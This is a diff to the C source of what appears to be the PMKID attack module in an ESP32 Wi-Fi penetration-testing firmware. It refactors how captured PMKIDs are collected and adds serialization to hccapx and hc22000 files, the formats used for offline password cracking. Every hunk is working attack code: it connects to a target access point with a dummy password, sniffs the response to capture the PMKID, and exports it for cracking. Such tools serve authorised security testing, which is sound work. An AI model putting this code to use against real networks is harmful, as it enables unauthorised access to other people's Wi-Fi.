@@ -21,6 +21,8 @@
 #include "wifi_controller.h"
 #include "frame_analyzer.h"
 #include "frame_analyzer_types.h"
+#include "hccapx_serializer.h"
+#include "hc22000_serializer.h"
 
 static const char* TAG = "main:attack_pmkid";
 static const wifi_ap_record_t *ap_record = NULL;
@@ -29,29 +31,25 @@ static const wifi_ap_record_t *ap_record = NULL;
  * @brief Callback for DATA_FRAME_EVENT_PMKID event.
  * 
  * If DATA_FRAME_EVENT_PMKID is received from event pool, this function stops PMKID attack and serialize 
- * captured PMKIDs into status content.
+ * captured PMKIDs into status content and hc22000 serializer.
  * 
  * @param args not used
  * @param event_base expects FRAME_ANALYZER_EVENTS
  * @param event_id expects DATA_FRAME_EVENT_PMKID
- * @param event_data expexcts pmkid_item_t *
+ * @param event_data expects pmkid_result_t
  */
 static void pmkid_exit_condition_handler(void *args, esp_event_base_t event_base, int32_t event_id, void *event_data) {
     ESP_LOGD(TAG, "Got PMKID, stopping attack...");
     attack_update_status(FINISHED);
     attack_pmkid_stop();
+    wifictl_scan_background_resume();
     
-    pmkid_item_t *pmkid_item_head = *(pmkid_item_t **) event_data;
-    // count how many PMKIDs in the list
-    pmkid_item_t *pmkid_item = pmkid_item_head;
-    unsigned pmkid_item_count = 1; 
-    while((pmkid_item = pmkid_item->next) != NULL){
-        pmkid_item_count++;
-    }
+    const pmkid_result_t *pmkid_result = (const pmkid_result_t *) event_data;
 
     // MAC_STA + MAC_AP + SSID size + SSID + PMKID * count
-    char *content = attack_alloc_result_content(6 + 6 + 1 + strlen((char *) ap_record->ssid) + (pmkid_item_count * 16));
+    char *content = attack_alloc_result_content(6 + 6 + 1 + strlen((char *) ap_record->ssid) + (pmkid_result->count * 16));
     wifictl_get_sta_mac((uint8_t *) content);
+    const uint8_t *mac_sta = (const uint8_t *) content;
     content += 6;
     memcpy(content, ap_record->bssid, 6);
     content += 6;
@@ -61,14 +59,11 @@ static void pmkid_exit_condition_handler(void *args, esp_event_base_t event_base
     content += strlen((char *) ap_record->ssid);
 
     // copy PMKIDs into continuous memory into "content" in status 
-    pmkid_item = pmkid_item_head;
-    do {
-        pmkid_item_head = pmkid_item;
-        memcpy(content, pmkid_item_head, 16);
+    for(unsigned i = 0; i < pmkid_result->count; i++){
+        memcpy(content, pmkid_result->pmkid[i], 16);
+        hc22000_serializer_add_pmkid(ap_record->bssid, mac_sta, pmkid_result->pmkid[i]);
         content += 16;
-        pmkid_item = pmkid_item->next;
-        free(pmkid_item_head);
-    } while(pmkid_item != NULL);
+    }
 
     ESP_LOGD(TAG, "PMKID attack finished");
 }
@@ -76,9 +71,12 @@ static void pmkid_exit_condition_handler(void *args, esp_event_base_t event_base
 void attack_pmkid_start(attack_config_t *attack_config){
     ESP_LOGI(TAG, "Starting PMKID attack...");
     ap_record = attack_config->ap_record;
+    // Clear handshakes of previous attacks so hc22000 file contains only results of this one
+    hccapx_serializer_init(ap_record->ssid, strlen((char *)ap_record->ssid));
+    hc22000_serializer_init(ap_record->ssid, strlen((char *)ap_record->ssid));
     wifictl_sniffer_filter_frame_types(true, false, false);
     wifictl_sniffer_start(ap_record->primary);
-    frame_analyzer_capture_start(SEARCH_PMKID, ap_record->bssid);
+    frame_analyzer_capture_start(SEARCH_PMKID, ap_record->bssid, NULL);
     wifictl_sta_connect_to_ap(ap_record, "dummypassword");
     ESP_ERROR_CHECK(esp_event_handler_register(FRAME_ANALYZER_EVENTS, DATA_FRAME_EVENT_PMKID, &pmkid_exit_condition_handler, NULL));
 }